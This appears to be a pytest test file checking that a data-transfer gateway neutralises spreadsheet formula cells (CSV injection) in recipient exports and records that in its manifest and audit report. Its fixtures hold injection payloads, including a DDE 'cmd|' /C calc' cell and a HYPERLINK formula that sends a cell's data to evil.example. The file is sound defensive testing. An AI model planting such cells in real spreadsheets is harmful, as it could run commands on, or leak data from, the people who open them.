"""Cells that would start a spreadsheet formula do not reach the contractor's CSV as formulas
(issue 19, defect 8; OWASP CSV injection): through the command line, from the approval to the
decrypted package, its manifest and the auditor's report."""
from __future__ import annotations

import csv
import json
import os
from pathlib import Path

import pytest

from tests.conftest import APPROVALS, city_policy, run_audit, run_gateway

IN_PERIOD = "2020-06-01T10:00:00+09:00"
ATTACKS = {  # (row, column header) -> cell
    (0, "氏名"): "=HYPERLINK(D2)",
    (1, "住所"): "@SUM(1+1)*cmd|' /C calc'!A0",
    (2, "世帯主名"): "+1+2",
    (3, "口座名義"): "-ABC",
    (4, "住所"): "＝1+1",
}
NUMBERS = {(5, "住所"): "-100", (6, "住所"): "+5", (7, "住所"): "-0.5"}  # plain numbers compute nothing


@pytest.fixture
def kurume(home, monkeypatch):
    monkeypatch.setenv("GATEWAY_FAKE_NOW", IN_PERIOD)
    monkeypatch.setenv("GATEWAY_SCRYPT_WORK_FACTOR", "10")
    return home


def register(approval: Path) -> None:
    run_gateway("approval", "add", str(approval))
    run_gateway("user", "add", "s.staff", "--org", "kurume", "--role", "staff", "--name", "職員 一郎")


QUOTED = '=HYPERLINK("http://evil.example/?"&D2,"詳細")'


def recipients(tmp_path: Path, way: str = "lines") -> tuple[Path, list[list[str]], dict]:
    """A Kurume export with the attacks written into it, for each way minimisation writes a file:
    `lines` (every column in order, no quote: lines are copied as they came unless one may hold a
    formula), `quoted` (a quoted cell: from there on, row by row) and `rows` (an exclusion column
    to drop: row by row)."""
    attacks = {**ATTACKS, (0, "氏名"): QUOTED} if way == "quoted" else ATTACKS
    exclusion_column = way == "rows"
    path = tmp_path / f"{way}.csv"
    run_gateway("generate", "recipients", "--count", "12", "--schema", "kurume-2020", "--encoding", "utf-8",
                "--seed", "5", "-o", str(path))
    with path.open(encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    header, body = rows[0], rows[1:]
    for (i, column), cell in {**attacks, **NUMBERS}.items():
        body[i][header.index(column)] = cell
    if exclusion_column:
        header, body = [*header, "除外区分"], [[*r, ""] for r in body]
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f, lineterminator="\r\n").writerows([header, *body])
    assert ('"' in path.read_text(encoding="utf-8")) == (way == "quoted")
    return path, [header, *body], attacks


def send_and_open(source: Path, tmp_path: Path, approval: str) -> tuple[dict, list[list[str]]]:
    sent = json.loads(run_gateway(
        "send", str(source), "--approval", approval, "--recipient", "chikugo-print", "--profile", "vpn-sftp",
        "--password-delivery", "registered-mail", "--as", "s.staff", "--paper-ref", "書面 1", "--json").stdout)
    package, plain, secret = tmp_path / f"{sent['transfer']}.age", tmp_path / f"{sent['transfer']}.csv", tmp_path / "pass"
    run_gateway("fetch", sent["transfer"], "-o", str(package), "--as", "k.tanaka", "--paper-ref", "書面 1")
    secret.write_text(sent["passphrase"] + "\n")
    run_gateway("package", "decrypt", str(package), "-o", str(plain), "--passphrase-file", str(secret))
    with plain.open(encoding="utf-8", newline="") as f:
        return sent, list(csv.reader(f))


def transfer_evidence(tmp_path: Path, approval: str, transfer: str) -> tuple[dict, dict]:
    bundle = tmp_path / f"bundle-{transfer}"
    run_gateway("export", "evidence", "--approval", approval, "-o", str(bundle))
    policy = city_policy(Path(os.environ["GATEWAY_HOME"]))
    assert run_audit("verify", str(bundle), trust=policy).returncode == 0
    documents = [json.loads(p.read_text(encoding="utf-8")) for p in (bundle / "evidence").glob("*.json")]
    evidence = next(d for d in documents if d.get("type") == "transfer" and d.get("transfer") == transfer)
    report = json.loads(run_audit("report", str(bundle), "--json", trust=policy).stdout)
    return evidence, report


def summary(report: dict, transfer: str) -> dict:
    return next(t for a in report["approval_summaries"] for t in a["transfers"] if t["transfer"] == transfer)


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
@pytest.mark.parametrize("way", ["lines", "quoted", "rows"])
def test_formula_cells_are_neutralised_by_default_and_the_manifest_says_so(kurume, tmp_path, way):
    register(APPROVALS / "kurume-2020-teigaku.toml")
    source, written, attacks = recipients(tmp_path, way)
    sent, got = send_and_open(source, tmp_path, "kurume-2020-teigaku")
    header = got[0]
    for (i, column), cell in attacks.items():
        assert got[1 + i][header.index(column)] == "'" + cell
    for (i, column), cell in NUMBERS.items():
        assert got[1 + i][header.index(column)] == cell
    changed = {(i, header.index(c)) for i, c in ATTACKS}
    for i, row in enumerate(got[1:]):  # every other cell as it was written
        assert [c for j, c in enumerate(row) if (i, j) not in changed] == \
            [c for j, c in enumerate(written[1 + i][:len(header)]) if (i, j) not in changed]
    evidence, report = transfer_evidence(tmp_path, "kurume-2020-teigaku", sent["transfer"])
    formulas = {"neutralised": True, "cells": 5,
                "columns": {"account_holder": 1, "address": 2, "head_of_household": 1, "name": 1}}
    assert evidence["manifest"]["formulas"] == formulas
    assert summary(report, sent["transfer"])["formulas"] == formulas


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_an_approval_can_keep_cells_as_they_are_and_the_manifest_says_so(kurume, tmp_path):
    text = (APPROVALS / "kurume-2020-teigaku.toml").read_text(encoding="utf-8")
    text = text.replace('id = "kurume-2020-teigaku"', 'id = "kurume-2020-print-system"', 1)
    text = text.replace("[data]\n", "[data]\nneutralise_formulas = false\n", 1)
    approval = tmp_path / "print-system.toml"
    approval.write_text(text, encoding="utf-8")
    register(approval)
    source, written, _ = recipients(tmp_path)
    sent, got = send_and_open(source, tmp_path, "kurume-2020-print-system")
    assert got == written
    evidence, _ = transfer_evidence(tmp_path, "kurume-2020-print-system", sent["transfer"])
    assert evidence["manifest"]["formulas"] == {"neutralised": False, "cells": 0, "columns": {}}


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_the_key_is_read_strictly(kurume, tmp_path):
    text = (APPROVALS / "kurume-2020-teigaku.toml").read_text(encoding="utf-8")
    approval = tmp_path / "bad.toml"
    approval.write_text(text.replace("[data]\n", '[data]\nneutralise_formulas = "yes"\n', 1), encoding="utf-8")
    proc = run_gateway("approval", "add", str(approval), check=False)
    assert proc.returncode == 1 and "neutralise_formulas" in proc.stderr
